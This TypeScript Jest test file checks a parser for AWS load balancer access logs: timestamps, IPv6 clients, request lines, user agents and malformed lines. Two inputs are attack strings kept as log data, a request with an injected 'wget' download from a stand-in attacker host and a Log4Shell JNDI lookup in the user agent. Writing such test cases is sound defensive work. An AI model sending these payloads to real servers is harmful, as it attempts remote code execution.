import { describe, expect, it } from "@jest/globals";
import { alb } from "../../../src/logs/formats/aws/alb.ts";
import { albLine } from "../../support/log-lines.ts";
import { readLine } from "../../support/read-line.ts";

const read = (line: string) => readLine(alb, line);

describe("ALB lines", () => {
  it("are read with every field", () => {
    const line = albLine({ at: "2026-10-01T12:00:00.541999Z", createdAt: "2026-10-01T12:00:00.500000Z" });

    expect(read(line)).toEqual({
      arrivalMs: Date.UTC(2026, 9, 1, 12, 0, 0, 500),
      completedMs: Date.UTC(2026, 9, 1, 12, 0, 0, 541),
      client: "198.51.100.14",
      forwardedFor: null,
      method: "GET",
      scheme: "https",
      host: "shop.example",
      path: "/products/7",
      query: "ref=a",
      status: 200,
      bytes: 2048,
      totalSecs: 0.041,
      backendSecs: 0.041,
      connectSecs: 0,
      firstByteSecs: 0.041,
      bodySecs: 0,
      clientSecs: null,
      userAgent: "curl/8.5.0",
      referer: null,
      cache: null,
      tls: "TLSv1.2",
      node: "app/web/50dc6c495c0c9188",
      target: "10.0.0.7:8080",
    });
  });

  it.each([
    ["198.51.100.14:4711", "198.51.100.14"],
    ["2001:db8:0:1:bcf4:5264:e01c:f215:50718", "2001:db8:0:1:bcf4:5264:e01c:f215"],
    ["2001:db8::7:50718", "2001:db8::7"],
    ["[2001:db8::7]:443", "2001:db8::7"],
    ["-", null],
  ])("have their client in %s", (text, client) => {
    expect(read(albLine({ client: text }))?.client).toBe(client);
  });

  it.each([
    ["GET http://h:80/shell?cd+/tmp;wget+ evil.example/x HTTP/1.1", "GET", "/shell", "cd+/tmp;wget+ evil.example/x"],
    ["GET http://h:80/a b c HTTP/1.1", "GET", "/a b c", null],
    ["GET https://h:443/%%32%65/ HTTP/1.1", "GET", "/%%32%65/", null],
    ['GET https://h:443/say"hi" HTTP/1.1', "GET", '/say"hi"', null],
    ["GET https://h:443/say\\x22hi\\x22 HTTP/1.1", "GET", '/say"hi"', null],
    ["GET https://h:443? HTTP/2.0", "GET", "/", null],
    ["- - - ", null, null, null],
    ["- http://internal.example:80-/ ", null, null, null],
    ["", null, null, null],
  ])("have the request %s", (request, method, path, query) => {
    expect(read(albLine({ request }))).toMatchObject({ method, path, query, status: 200, userAgent: "curl/8.5.0" });
  });

  it.each([
    ['say \\"hi\\"', 'say "hi"'],
    ['a " b', 'a " b'],
    ['" "', '" "'],
    ["ends in a backslash\\", "ends in a backslash\\"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: attacks are written so
    ["${jndi:ldap://${java:version}.domain/a}", "${jndi:ldap://${java:version}.domain/a}"],
    ["-", null],
  ])("have the whole user agent %s", (text, userAgent) => {
    expect(read(albLine({ userAgent: text }))).toMatchObject({ userAgent, host: "shop.example" });
  });

  it.each(["-", "-1", "000", "0", "99", "abc"])("have no status in %s", (status) => {
    expect(read(albLine({ status }))).toMatchObject({ status: null, bytes: 2048 });
  });

  it("have no bytes and no target in a dash, and no duration in -1", () => {
    const line = albLine({ bytes: "-" }).replace("10.0.0.7:8080 0.000 0.041 0.000", "- 0.003 -1 -1");

    expect(read(line)).toMatchObject({
      bytes: null,
      target: null,
      connectSecs: 0.003,
      firstByteSecs: null,
      bodySecs: null,
      backendSecs: null,
      totalSecs: null,
    });
  });

  it("take the site from the name that the client asked TLS for where the request has none", () => {
    expect(read(albLine({ request: "- - - " }))).toMatchObject({ host: "shop.example", scheme: null });
  });

  it("tell the arrival from the duration where they are too old, or cut, to hold it", () => {
    const line = albLine({ at: "2026-10-01T12:00:00.500000Z", createdAt: "2026-10-01T11:59:00.000000Z" });

    expect(read(line)?.arrivalMs).toBe(Date.UTC(2026, 9, 1, 11, 59));
    expect(read(line.slice(0, line.indexOf(" 1 2026")))?.arrivalMs).toBe(Date.UTC(2026, 9, 1, 12, 0, 0, 459));
  });

  it.each([18, 20, 25, 27, 29, 30, 33])("are clean with %d fields", (count) => {
    const fields = albLine().match(/"[^"]*"|\S+/g) ?? [];
    const line = fields.slice(0, count).join(" ");

    expect(alb.recognises(line)).toBe(true);
    expect(read(line)).toMatchObject({
      client: "198.51.100.14",
      status: 200,
      path: "/products/7",
      target: "10.0.0.7:8080",
    });
  });

  it("are clean with more fields than are known, whatever they hold", () => {
    const line = `${albLine()} "new" newer -1 "x y"`;

    expect(alb.recognises(line)).toBe(true);
    expect(read(line)).toMatchObject({ userAgent: "curl/8.5.0", arrivalMs: Date.UTC(2026, 9, 1, 12, 0, 0, 500) });
  });

  it("are read where what is quoted today is not", () => {
    const line = albLine().replace('"shop.example" "session-reused"', "shop.example session-reused");

    expect(read(line.replace("https://shop.example:443", ""))).toMatchObject({
      host: "shop.example",
      path: "/products/7",
    });
  });

  it.each([
    "",
    "#",
    "Enable AccessLog for ELB: my-alb at 2026-09-30T10:00:00.000Z",
    '198.51.100.7 - - [01/Oct/2026:12:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "-"',
    "https 9026-10-01T12:00:00.5Z app/web/1 198.51.100.14:1 - -1 -1 -1 200 - 1 1",
  ])("are not %p", (line) => {
    expect(read(line)).toBeNull();
    expect(alb.recognises(line)).toBe(false);
  });
});
